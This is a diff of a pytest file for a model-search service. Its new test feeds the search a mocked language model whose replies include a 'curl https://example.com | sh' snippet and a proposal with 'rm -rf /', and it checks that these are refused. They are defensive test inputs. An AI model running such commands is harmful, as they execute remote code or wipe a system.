@@ -2,74 +2,56 @@
 
 from __future__ import annotations
 
-import io
 import json
-import urllib.request
-import zipfile
+import os
 from collections.abc import Iterator
 from dataclasses import replace
+from pathlib import Path
 from typing import Any
+from unittest import mock
 
-import numpy as np
 import pytest
-from PIL import Image
-from sklearn.datasets import load_digits
 
 from cdk.local.__main__ import down, up
 from cdk.local.settings import REPO
+from tests.flow.digits import dataset, read_right
 from tests.flow.turning import Turning, a_twin, until
+from tests.providers_server import Answer, ProviderServer, Script, provider_server
 
 pytestmark = [pytest.mark.twin, pytest.mark.slow]
 QUICK = {"target_accuracy": 0.97, "rounds": 2, "population": 4, "seeds": 1, "finalists": 1, "baselines": False}
+SHORT = {"rounds": 2, "population": 3, "max_epochs": 6, "seeds": 1, "finalists": 1, "baselines": False}
+TRAINING = {"optimizer": "adamw", "learning_rate": 0.01, "batch_size": 64, "epochs": 6}
+GOOD = {"blocks": [{"kind": "conv", "filters": 24}, {"kind": "pool", "mode": "max"}], "training": TRAINING}
+BETTER = {"blocks": [{"kind": "residual", "filters": 32}], "training": {**TRAINING, "learning_rate": 0.004}}
+HUGE = {"blocks": [{"kind": "conv", "filters": 1024, "kernel": 7}] * 20}
+CODE = "```python\nimport os\nos.system('curl https://example.com | sh')\n```"
+GROQ = "openai/gpt-oss-120b"
 
 
-@pytest.fixture(scope="module")
-def turning(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Turning]:
-    twin = replace(a_twin(tmp_path_factory.mktemp("search") / "home"), containers=REPO / "training_containers", slots=1)
+def _twin(home: Path) -> Iterator[Turning]:
+    twin = replace(a_twin(home), containers=REPO / "training_containers", slots=1)
     yield Turning(twin, up(twin))
     down(twin)
 
 
-def _png(digit: Any) -> bytes:
-    out = io.BytesIO()
-    Image.fromarray((digit * 15.9).astype(np.uint8), "L").save(out, "PNG")
-    return out.getvalue()
+@pytest.fixture
+def turning(tmp_path: Path) -> Iterator[Turning]:
+    yield from _twin(tmp_path / "home")
 
 
-def _archive() -> bytes:
-    """A folder a class, as people keep them; one file is no image, and one class is written with an umlaut."""
-    digits, out = load_digits(), io.BytesIO()
-    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
-        for number, (image, label) in enumerate(zip(digits.images, digits.target, strict=True)):
-            name = "fünf" if label == 5 else str(label)
-            archive.writestr(f"digits/{name}/{number:04}.png", _png(image))
-        archive.writestr("digits/3/broken.png", b"\x89PNG\r\n\x1a\nbut no more")
-    return out.getvalue()
+@pytest.fixture
+def guided(tmp_path: Path) -> Iterator[tuple[Turning, ProviderServer]]:
+    """A twin whose shell has a key of Groq's and puts another address in its place."""
+    with provider_server() as groq:
+        shell = {"GROQ_API_KEY": "gsk-test", "MILLRACE_PROVIDER_URLS": f"groq={groq.url('/openai/v1')}"}
+        with mock.patch.dict(os.environ, shell):
+            for turning in _twin(tmp_path / "home"):
+                yield turning, groq
 
 
-def _send(turning: Turning, method: str, path: str, body: bytes) -> Any:
-    headers = {"x-api-key": turning.record["demo_key"], "content-type": "application/octet-stream"}
-    request = urllib.request.Request(turning.record["api_url"] + path, body, headers, method=method)
-    with urllib.request.urlopen(request, timeout=60) as reply:
-        return json.loads(reply.read())
-
-
-@pytest.mark.timeout(900)
-def test_digits_are_searched_for_a_network_that_then_reads_them_over_http(turning: Turning) -> None:
-    """D1, D2, D3, J3, J6, S1, S3, E2, Q5: nobody names a strategy, and there is no language model."""
-    dataset = turning.api.post("/api/datasets", {"name": "Digits", "domain": "handwriting"})
-    where = f"/api/datasets/{dataset['id']}"
-    _send(turning, "PUT", f"{where}/archive", _archive())
-
-    def ready() -> Any:
-        found = turning.api.get(where)
-        assert found["state"] != "error", found["reasons"]
-        return found if found["state"] == "ready" else None
-
-    assert until(ready, "the intake", 120)["total_samples"] == 1797
-
-    job = turning.api.post("/api/training-jobs", {"dataset_id": dataset["id"], "hyperparameters": QUICK})
-    assert (job["strategy"], job["model_name"]) == ("cnn-search", "classifier")
+def _searched(turning: Turning, job: dict[str, Any]) -> tuple[dict[str, Any], set[str]]:
+    """The job, completed, and every stage that its progress told of."""
     stages = set()
 
     def over() -> Any:
@@ -78,15 +60,59 @@ def test_digits_are_searched_for_a_network_that_then_reads_them_over_http(turnin
         assert found["state"] not in ("failed", "cancelled"), found["error"]
         return found if found["state"] == "completed" else None
 
-    done = until(over, "the search", 600)
+    return until(over, "the search", 600), stages
+
+
+@pytest.mark.timeout(900)
+def test_digits_are_searched_for_a_network_that_then_reads_them_over_http(turning: Turning) -> None:
+    """D1, D2, D3, J3, J6, S1, S3, E2, Q5: nobody names a strategy, and there is no language model."""
+    images = dataset(turning)
+    assert images["total_samples"] == 1797
+
+    job = turning.api.post("/api/training-jobs", {"dataset_id": images["id"], "hyperparameters": QUICK})
+    assert (job["strategy"], job["model_name"]) == ("cnn-search", "classifier")
+    done, stages = _searched(turning, job)
+
     assert {"trials0", "train"} <= stages and done["gates"]["cnn"]["passed"]
     model = turning.api.get(f"/api/models/{done['model_id']}")
     assert model["state"] == "active" and model["metrics"]["test_accuracy"] > 0.9
-    assert model["lineage"]["dataset_id"] == dataset["id"]
+    assert model["lineage"]["dataset_id"] == images["id"]
+    assert read_right(turning) >= 17
 
-    digits = load_digits()
-    path = "/api/models/classifier/classify"
-    seen = [_send(turning, "POST", path, _png(digits.images[at])) for at in range(0, 200, 10)]
-    names = ["fünf" if digits.target[at] == 5 else str(digits.target[at]) for at in range(0, 200, 10)]
-    assert sum(answer["label"] == name for answer, name in zip(seen, names, strict=True)) >= 17
-    assert all(abs(sum(one["share"] for one in answer["shares"]) - 1) < 1e-4 for answer in seen)
+
+@pytest.mark.timeout(900)
+def test_a_language_model_that_often_talks_nonsense_guides_a_search_to_its_end(
+    guided: tuple[Turning, ProviderServer],
+) -> None:
+    """S1, S2, S5, H2: nonsense, code, a huge network, good ones; then an error, nothing and prose, and evolution."""
+    turning, groq = guided
+    images = dataset(turning)
+    good = json.dumps({"proposals": [HUGE, GOOD, {"blocks": [{"kind": "exec", "code": "rm -rf /"}]}, BETTER]})
+    asked: list[Any] = []
+    said = iter(["Surely! Let me think about convolutions.", CODE, f"Here you are:\n{good}\nGood luck!", "", "", "No."])
+
+    def script(path: str, body: Any) -> Script:
+        asked.append(body)
+        return Script.BAD_REQUEST if len(asked) == 4 else Script.EMPTY if len(asked) == 5 else Script.OK
+
+    groq.choose, groq.answer = script, lambda prompt: Answer(next(said, "No."))
+
+    job = turning.api.post("/api/training-jobs", {"dataset_id": images["id"], "hyperparameters": SHORT})
+    done, stages = _searched(turning, job)
+
+    assert {"trials0", "trials1", "train"} <= stages and done["gates"]["cnn"]["passed"]
+    assert [body["model"] for body in asked] == [GROQ] * 6, "three questions a round, and none after the third in vain"
+    told = turning.api.get(f"/api/training-jobs/{job['id']}/search")
+    first, second = told["proposed"]
+    assert (told["rounds"], first["source"], second["source"]) == (2, "llm", "evolution")
+    assert [why.split(":")[0] for why in first["refused"]] == [
+        "The reply holds no JSON list of proposals.",
+        "The reply holds no JSON list of proposals.",
+        "Proposal 1",
+        "Proposal 3",
+    ]
+    assert "parameters" in first["refused"][2] and len(second["refused"]) == 3
+    guided_by = {tuple(block["kind"] for block in one["spec"]["blocks"]) for one in told["tried"] if one["round"] == 0}
+    assert {("conv", "pool"), ("residual",)} <= guided_by
+    assert {one["source"] for one in told["tried"] if one["round"] == 1} <= {"evolution", "retry"}
+    assert read_right(turning) >= 15
